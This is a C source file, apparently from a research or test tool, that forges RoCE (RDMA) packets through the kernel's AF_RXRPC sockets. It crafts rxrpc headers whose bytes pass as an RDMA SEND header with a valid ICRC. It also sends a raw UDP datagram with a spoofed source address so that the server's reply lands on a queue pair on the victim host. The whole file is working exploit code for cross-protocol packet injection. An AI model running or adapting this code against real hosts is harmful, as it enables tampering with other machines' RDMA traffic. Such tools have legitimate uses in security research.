// SPDX-License-Identifier: GPL-2.0 OR Linux-OpenIB
/*
 * What any process can have sent by a socket that the kernel made, of AF_RXRPC. The header of that
 * protocol is the BTH of a SEND, where whoever calls the server chose its numbers so; the server's
 * answer is then a packet for a QP on the caller's host.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/rxrpc.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "../packets/frame.h"
#include "complaint.h"
#include "forgery.h"
#include "number.h"
#include "way.h"

#ifndef SOL_RXRPC
#define SOL_RXRPC	272
#endif

#define IP_BYTES	20
#define SERVICE		1
#define SERVER_PORT	7000
#define CALL_TEXT	"call"
#define CALL_ID		7

/* Of a call that is numbered so that this is RC SEND ONLY, PSN 0, which asks for an ACK */
#define CALL_EPOCH(pkey)	((SERVICE_RC | OP_SEND_ONLY) << 24 | (pkey))
#define CALL_NUMBER	0x80000000

/* The header of rxrpc */
#define RX_BYTES	28
#define RX_TYPE_DATA	1
#define RX_FROM_CLIENT	0x01
#define RX_LAST		0x04
#define ANSWER_SERIAL	2	/* the first one of the server acknowledged the call */

static u8 *put_header(u8 *to, u32 qpn, u32 serial, u8 flags)
{
	memset(to, 0, RX_BYTES);
	put_32(to, CALL_EPOCH(DEFAULT_PKEY));
	put_32(to + 4, qpn);
	put_32(to + 8, CALL_NUMBER);
	put_32(to + 12, 1);
	put_32(to + 16, serial);
	to[20] = RX_TYPE_DATA;
	to[21] = flags;
	put_16(to + 26, SERVICE);
	return to + RX_BYTES;
}

/* What makes the answer a packet, behind the header that the kernel puts */
static void fill_answer(const struct way *w, u32 qpn, u8 *answer)
{
	u8 packet[RX_BYTES + TEXT_BYTES + ICRC_BYTES] = {};

	memcpy(put_header(packet, qpn, ANSWER_SERIAL, RX_LAST), TEXT, sizeof(TEXT));
	way_put_icrc(w, 0, packet, RX_BYTES + TEXT_BYTES);
	memcpy(answer, packet + RX_BYTES, TEXT_BYTES + ICRC_BYTES);
}

/* An answer to the call; with @bytes 0: accept the next call, without waiting for it */
static int send_control(int fd, void *data, size_t bytes)
{
	union {
		struct cmsghdr first;
		char bytes[CMSG_SPACE(sizeof(unsigned long)) + CMSG_SPACE(0)];
	} control = {};
	struct iovec part = { data, bytes };
	struct msghdr message = {
		.msg_iov = &part,
		.msg_iovlen = !!bytes,
		.msg_control = &control,
		.msg_controllen = CMSG_SPACE(sizeof(unsigned long)),
	};
	struct cmsghdr *cmsg;

	if (!bytes)
		message.msg_controllen += CMSG_SPACE(0);
	cmsg = CMSG_FIRSTHDR(&message);
	cmsg->cmsg_level = SOL_RXRPC;
	cmsg->cmsg_type = RXRPC_USER_CALL_ID;
	cmsg->cmsg_len = CMSG_LEN(sizeof(unsigned long));
	*(unsigned long *)CMSG_DATA(cmsg) = CALL_ID;
	if (!bytes) {
		cmsg = CMSG_NXTHDR(&message, cmsg);
		cmsg->cmsg_level = SOL_RXRPC;
		cmsg->cmsg_type = RXRPC_CHARGE_ACCEPT;
		cmsg->cmsg_len = CMSG_LEN(0);
	}
	return sendmsg(fd, &message, 0) < 0 ? complain("sendmsg", errno) : 0;
}

static int listen_at(int fd, const union address *a)
{
	struct sockaddr_rxrpc service = {
		.srx_family = AF_RXRPC,
		.srx_service = SERVICE,
		.transport_type = SOCK_DGRAM,
		.transport_len = sizeof(a->v4),
		.transport.sin = a->v4,
	};

	if (bind(fd, (struct sockaddr *)&service, sizeof(service)))
		return complain("bind", errno);
	if (listen(fd, 1))
		return complain("listen", errno);
	if (send_control(fd, NULL, 0))
		return -1;
	puts("listens");
	return 0;
}

/* The first thing that comes says that there is a call */
static int wait_for_call(int fd)
{
	char data[64], control[256];
	struct iovec part = { data, sizeof(data) };
	struct msghdr message = { .msg_iov = &part, .msg_iovlen = 1 };
	ssize_t got;

	do {
		message.msg_control = control;
		message.msg_controllen = sizeof(control);
		got = recvmsg(fd, &message, 0);
	} while (!got);
	return got < 0 ? complain("recvmsg", errno) : 0;
}

static int parse(struct way *w, char **words)
{
	if (address_parse(&w->from, words[0], SERVER_PORT) ||
	    address_parse(&w->to, words[1], ROCE_PORT))
		return -1;
	return w->from.any.sa_family == AF_INET && w->to.any.sa_family == AF_INET ?
	       0 : complain("IPv4", EINVAL);
}

int forgery_rxrpc(char **words)
{
	u8 answer[TEXT_BYTES + ICRC_BYTES];
	struct way w;
	int fd;

	if (parse(&w, words))
		return -EINVAL;
	fill_answer(&w, number_of(words[2], QPN_MASK), answer);
	fd = socket(AF_RXRPC, SOCK_DGRAM, AF_INET);
	if (fd < 0) {
		complain("socket", errno);
		return -EIO;
	}
	if (listen_at(fd, &w.from) || wait_for_call(fd) ||
	    send_control(fd, answer, sizeof(answer)))
		return -EIO;
	puts("answered");
	pause();
	return 0;
}

/* In the name of the host that the answer is to go to */
int forgery_call(char **words)
{
	u8 datagram[IP_BYTES + UDP_BYTES + RX_BYTES + sizeof(CALL_TEXT)] = {};
	u8 *udp = datagram + IP_BYTES;
	struct way w;
	u32 qpn;
	int fd;

	if (parse(&w, words))
		return -EINVAL;
	qpn = number_of(words[2], QPN_MASK);
	datagram[0] = 0x45;
	put_16(datagram + 2, sizeof(datagram));
	datagram[8] = 64;
	datagram[9] = IPPROTO_UDP;
	memcpy(datagram + 12, &w.to.v4.sin_addr, 4);
	memcpy(datagram + 16, &w.from.v4.sin_addr, 4);
	put_16(udp, ROCE_PORT);
	put_16(udp + 2, SERVER_PORT);
	put_16(udp + 4, sizeof(datagram) - IP_BYTES);
	memcpy(put_header(udp + UDP_BYTES, qpn, 1, RX_FROM_CLIENT | RX_LAST), CALL_TEXT,
	       sizeof(CALL_TEXT));
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0 || sendto(fd, datagram, sizeof(datagram), 0, &w.from.any,
			     sizeof(w.from.v4)) < 0) {
		complain("raw socket", errno);
		return -EIO;
	}
	return 0;
}
